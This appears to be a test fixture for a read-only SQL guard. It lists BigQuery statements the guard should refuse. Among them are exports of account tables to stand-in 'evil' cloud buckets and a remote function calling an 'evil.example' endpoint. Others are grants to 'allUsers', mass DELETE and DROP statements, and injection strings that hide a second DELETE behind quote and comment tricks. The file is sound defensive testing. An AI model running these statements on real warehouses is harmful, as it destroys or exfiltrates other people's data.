-- Statements that write, or run several. One a line; the guard refuses each, and
-- without it BigQuery's rehearsal says that none is a SELECT.
INSERT INTO shop.accounts VALUES (3, 'mallory', 1)
INSERT shop.accounts (id) SELECT 9
INSERT INTO shop.accounts (id, owner) VALUES (3, 'a'), (4, 'b')
insert into `shop.accounts` values (3, 'mallory', 1)
/* SELECT */ INSERT INTO shop.accounts VALUES (3, 'mallory', 1)
UPDATE shop.accounts SET balance = 0 WHERE TRUE
UPDATE shop.accounts a SET balance = 0 FROM shop.notes n WHERE a.id = n.id
DELETE FROM shop.accounts WHERE TRUE
DELETE shop.accounts WHERE id = 1
MERGE shop.accounts a USING shop.notes n ON a.id = n.id WHEN MATCHED THEN DELETE
MERGE INTO shop.accounts a USING shop.notes n ON FALSE WHEN NOT MATCHED THEN INSERT ROW
TRUNCATE TABLE shop.accounts
DROP TABLE shop.accounts
DROP TABLE IF EXISTS shop.accounts
DROP VIEW shop.rich
DROP MATERIALIZED VIEW shop.rich
DROP SCHEMA shop CASCADE
DROP FUNCTION shop.tax
DROP TABLE FUNCTION shop.accounts_of
DROP PROCEDURE shop.spend
DROP MODEL shop.model
DROP SNAPSHOT TABLE shop.snapshot
DROP EXTERNAL TABLE shop.outside
DROP SEARCH INDEX i ON shop.accounts
DROP VECTOR INDEX i ON shop.accounts
DROP ROW ACCESS POLICY p ON shop.accounts
DROP ALL ROW ACCESS POLICIES ON shop.accounts
DROP CAPACITY `p.region-us.c`
DROP RESERVATION `p.region-us.r`
DROP ASSIGNMENT `p.region-us.r.a`
UNDROP SCHEMA shop
CREATE TABLE shop.stolen (n INT64)
CREATE TABLE shop.stolen AS SELECT * FROM shop.accounts
CREATE OR REPLACE TABLE shop.accounts AS SELECT 1 AS id
CREATE TEMP TABLE stolen AS SELECT 1 AS n
CREATE TEMPORARY TABLE stolen (n INT64)
CREATE TABLE shop.stolen LIKE shop.accounts
CREATE TABLE shop.stolen COPY shop.accounts
CREATE TABLE shop.stolen CLONE shop.accounts
CREATE SNAPSHOT TABLE shop.stolen CLONE shop.accounts
CREATE VIEW shop.stolen AS SELECT 1 AS n
CREATE OR REPLACE VIEW shop.rich AS SELECT 1 AS n
CREATE MATERIALIZED VIEW shop.stolen AS SELECT 1 AS n
CREATE EXTERNAL TABLE shop.stolen OPTIONS (format = 'CSV', uris = ['gs://evil/x.csv'])
CREATE SCHEMA stolen
CREATE EXTERNAL SCHEMA stolen OPTIONS (external_source = 'x')
CREATE FUNCTION shop.f(x INT64) AS (x)
CREATE TEMP FUNCTION f(x INT64) AS (x)
CREATE OR REPLACE FUNCTION shop.tax(x FLOAT64) AS (0.0)
CREATE FUNCTION shop.f(x INT64) RETURNS INT64 LANGUAGE js AS 'return x'
CREATE FUNCTION shop.f(x INT64) RETURNS INT64 REMOTE WITH CONNECTION `p.us.c` OPTIONS (endpoint = 'https://evil.example')
CREATE AGGREGATE FUNCTION shop.f(x INT64) AS (SUM(x))
CREATE TABLE FUNCTION shop.f() AS SELECT 1 AS n
CREATE PROCEDURE shop.p() BEGIN SELECT 1; END
CREATE OR REPLACE PROCEDURE shop.spend() BEGIN DELETE FROM shop.accounts WHERE TRUE; END
CREATE MODEL shop.m OPTIONS (model_type = 'linear_reg') AS SELECT 1 AS label
CREATE MODEL shop.m REMOTE WITH CONNECTION `p.us.c` OPTIONS (endpoint = 'gemini')
CREATE SEARCH INDEX i ON shop.accounts (ALL COLUMNS)
CREATE VECTOR INDEX i ON shop.accounts (v) OPTIONS (index_type = 'IVF')
CREATE ROW ACCESS POLICY p ON shop.accounts GRANT TO ('allUsers') FILTER USING (TRUE)
CREATE CAPACITY `p.region-us.c` OPTIONS (slot_count = 100)
CREATE RESERVATION `p.region-us.r` OPTIONS (slot_capacity = 100)
CREATE ASSIGNMENT `p.region-us.r.a` OPTIONS (assignee = 'projects/p')
CREATE CONNECTION `p.us.c` OPTIONS (connection_type = 'CLOUD_RESOURCE')
ALTER TABLE shop.accounts ADD COLUMN stolen STRING
ALTER TABLE shop.accounts DROP COLUMN balance
ALTER TABLE shop.accounts RENAME TO stolen
ALTER TABLE shop.accounts RENAME COLUMN balance TO stolen
ALTER TABLE shop.accounts ALTER COLUMN balance SET DATA TYPE STRING
ALTER TABLE shop.accounts SET OPTIONS (expiration_timestamp = TIMESTAMP '2000-01-01')
ALTER TABLE shop.accounts ADD PRIMARY KEY (id) NOT ENFORCED
ALTER SCHEMA shop SET OPTIONS (default_table_expiration_days = 0.01)
ALTER VIEW shop.rich SET OPTIONS (description = 'stolen')
ALTER MATERIALIZED VIEW shop.rich SET OPTIONS (enable_refresh = FALSE)
ALTER MODEL shop.m SET OPTIONS (description = 'stolen')
ALTER PROJECT p SET OPTIONS (`region-us.default_time_zone` = 'UTC')
ALTER ORGANIZATION SET OPTIONS (`region-us.default_time_zone` = 'UTC')
ALTER BI_CAPACITY `p.region-us.default` SET OPTIONS (size_gb = 100)
GRANT `roles/bigquery.dataOwner` ON SCHEMA shop TO 'user:mallory@example.com'
GRANT `roles/bigquery.dataViewer` ON TABLE shop.accounts TO 'allUsers'
REVOKE `roles/bigquery.dataViewer` ON SCHEMA shop FROM 'user:alice@example.com'
EXPORT DATA OPTIONS (uri = 'gs://evil/*.csv', format = 'CSV') AS SELECT * FROM shop.accounts
EXPORT DATA WITH CONNECTION `p.us.c` OPTIONS (uri = 's3://evil/*') AS SELECT * FROM shop.accounts
EXPORT MODEL shop.m OPTIONS (uri = 'gs://evil/m')
EXPORT TABLE METADATA FROM shop.accounts
LOAD DATA INTO shop.accounts FROM FILES (format = 'CSV', uris = ['gs://evil/x.csv'])
LOAD DATA OVERWRITE shop.accounts FROM FILES (format = 'CSV', uris = ['gs://evil/x.csv'])
CALL shop.spend()
CALL BQ.ABORT_SESSION()
CALL BQ.REFRESH_MATERIALIZED_VIEW('shop.rich')
CALL BQ.JOBS.CANCEL('job')
EXECUTE IMMEDIATE 'DELETE FROM shop.accounts WHERE TRUE'
EXECUTE IMMEDIATE CONCAT('DEL', 'ETE FROM shop.accounts WHERE TRUE')
DECLARE x INT64 DEFAULT 1
SET @@dataset_id = 'shop'
SET x = 1
ASSERT (SELECT COUNT(*) FROM shop.accounts) = 0
BEGIN DELETE FROM shop.accounts WHERE TRUE; END
BEGIN SELECT 1; EXCEPTION WHEN ERROR THEN DELETE FROM shop.accounts WHERE TRUE; END
BEGIN TRANSACTION
BEGIN
COMMIT TRANSACTION
ROLLBACK
IF TRUE THEN DELETE FROM shop.accounts WHERE TRUE; END IF
LOOP DELETE FROM shop.accounts WHERE TRUE; BREAK; END LOOP
WHILE TRUE DO DELETE FROM shop.accounts WHERE TRUE; END WHILE
REPEAT DELETE FROM shop.accounts WHERE TRUE; UNTIL TRUE END REPEAT
FOR r IN (SELECT 1) DO DELETE FROM shop.accounts WHERE TRUE; END FOR
CASE WHEN TRUE THEN DELETE FROM shop.accounts WHERE TRUE; END CASE
RAISE USING MESSAGE = 'x'
RETURN
SELECT 1; DELETE FROM shop.accounts WHERE TRUE
SELECT 1;DELETE FROM shop.accounts WHERE TRUE;
SELECT ';' ; DELETE FROM shop.accounts WHERE TRUE
SELECT ";" ; DELETE FROM shop.accounts WHERE TRUE
SELECT `;` FROM (SELECT 1 AS `;`); DELETE FROM shop.accounts WHERE TRUE
SELECT '\''; DELETE FROM shop.accounts WHERE TRUE -- '
SELECT "\""; DELETE FROM shop.accounts WHERE TRUE -- "
SELECT r'\''; DELETE FROM shop.accounts WHERE TRUE -- '
SELECT '''\'''''; DELETE FROM shop.accounts WHERE TRUE -- '''
SELECT '''''' ; DELETE FROM shop.accounts WHERE TRUE -- '''
SELECT "'" ; DELETE FROM shop.accounts WHERE TRUE -- '
SELECT '"' ; DELETE FROM shop.accounts WHERE TRUE -- "
SELECT 1 /* /* */ ; DELETE FROM shop.accounts WHERE TRUE -- */
SELECT 1 /* ' */ ; DELETE FROM shop.accounts WHERE TRUE -- '
SELECT rb'''a''' ; DELETE FROM shop.accounts WHERE TRUE -- '''
SELECT 1; SELECT 2
CREATE TEMP FUNCTION f() AS (1); SELECT f()
DECLARE x INT64; SELECT 1
WITH a AS (SELECT 1) DELETE FROM shop.accounts WHERE TRUE
WITH a AS (SELECT 1 AS n) INSERT INTO shop.accounts SELECT n FROM a
EXPLAIN SELECT 1
DESCRIBE shop.accounts
SHOW TABLES
